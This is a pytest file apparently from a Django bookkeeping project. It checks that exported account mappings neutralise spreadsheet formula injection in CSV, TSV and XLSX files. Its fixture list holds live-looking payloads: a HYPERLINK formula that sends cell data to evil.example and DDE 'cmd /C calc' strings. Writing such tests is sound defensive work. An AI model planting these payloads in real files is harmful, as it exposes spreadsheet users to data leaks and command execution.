"""Exports open safely in a spreadsheet: the five formula payloads from issue 11 are neutralised in CSV,
TSV and XLSX, from the admin and from `manage.py export`; numbers stay numbers; a round trip gives the
values back."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.urls import reverse

from bookkeeping.models import AccountMapping
from bookkeeping.spreadsheets import neutralise_formula, restore_neutralised
from tests.factories import AccountMappingFactory, CompanyFactory, UserFactory, fortnox_plan

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FIELDS = ("company", "system", "kind", "key", "account", "cost_centre", "vat_code", "note")


@pytest.fixture
def exporter(db, client):
    company = CompanyFactory(name="Brf Export", slug="brf-export")
    fortnox_plan(company, accounts=(1930, 3011))  # imports check accounts against the plan
    for n, payload in enumerate(PAYLOADS):
        AccountMappingFactory(company=company, key=f"k{n}", note=payload, account_number=3011)
    AccountMappingFactory(company=company, key="-120.00", note="Vanlig text", account_number=1930)
    user = UserFactory(username="revisor")
    user.groups.add(Group.objects.get(name="Reviewer (read only)"))
    company.members.add(user)
    client.force_login(user)
    return company


def export(client, file_format: int):
    url = reverse("admin:bookkeeping_accountmapping_export")
    response = client.post(url, {"format": str(file_format), "resource": "0",
                                 **{f"accountmappingresource_{f}": "on" for f in FIELDS}})
    assert response.status_code == 200, response.content[:300]
    return response


def test_formats_offered_are_the_safe_ones(client, exporter):
    page = client.get(reverse("admin:bookkeeping_accountmapping_export")).content.decode()
    assert ">csv<" in page and ">tsv<" in page and ">xlsx<" in page
    assert ">json<" not in page and ">html<" not in page


@pytest.mark.parametrize("file_format,delimiter", [(0, ","), (1, "\t")], ids=["csv", "tsv"])
def test_text_exports_neutralise_every_payload(client, exporter, file_format, delimiter):
    body = export(client, file_format).content.decode()
    rows = list(csv.DictReader(io.StringIO(body), delimiter=delimiter))
    notes = {row["key"]: row["note"] for row in rows}
    for n, payload in enumerate(PAYLOADS):
        assert notes[f"k{n}"] == "'" + payload
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-120.00"
               for row in rows for value in row.values())
    assert notes["-120.00"] == "Vanlig text"  # a plain number stays a number, also in a text column
    assert {row["account"] for row in rows} == {"3011", "1930"}


def test_xlsx_export_holds_text_never_a_formula(client, exporter):
    response = export(client, 2)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = {row[header.index("key")].value: row[header.index("note")] for row in sheet.iter_rows(min_row=2)}
    for n, payload in enumerate(PAYLOADS):
        cell = cells[f"k{n}"]
        # XML reads a carriage return back as a line feed; what matters is that it is text
        assert cell.value == payload.replace("\r", "\n")
        assert cell.data_type == "s" and cell.quotePrefix  # text with Excel's own "typed as text" mark
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    numbers = [row[header.index("account")].value for row in sheet.iter_rows(min_row=2)]
    assert set(numbers) == {3011, 1930}  # numbers stay numbers


def test_the_export_command_is_neutralised_too(exporter, capsysbinary):
    call_command("export", "CSV", "bookkeeping.resources.AccountMappingResource")
    body = capsysbinary.readouterr().out.decode()
    assert "'=HYPERLINK" in body and "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body


def test_an_exported_file_imports_back_unchanged(exporter, tmp_path):
    from bookkeeping.resources import AccountMappingResource

    dataset = AccountMappingResource().export()
    AccountMapping.objects.all().delete()
    result = AccountMappingResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert sorted(AccountMapping.objects.values_list("note", flat=True)) == sorted([*PAYLOADS, "Vanlig text"])


def test_neutralising_rules():
    assert neutralise_formula("-120.00") == "-120.00" and neutralise_formula("+46") == "+46"
    assert neutralise_formula("-2+3") == "'-2+3" and neutralise_formula("@x") == "'@x"
    assert neutralise_formula("Hyra") == "Hyra" and neutralise_formula(120) == 120
    assert restore_neutralised("'=A1") == "=A1" and restore_neutralised("'Hej") == "'Hej"


def test_exporting_needs_the_export_permission(client, exporter):
    viewer = UserFactory(username="tittare")
    from django.contrib.auth.models import Permission

    viewer.user_permissions.add(Permission.objects.get(codename="view_accountmapping"))
    exporter.members.add(viewer)
    client.force_login(viewer)
    assert client.get(reverse("admin:bookkeeping_accountmapping_export")).status_code == 403
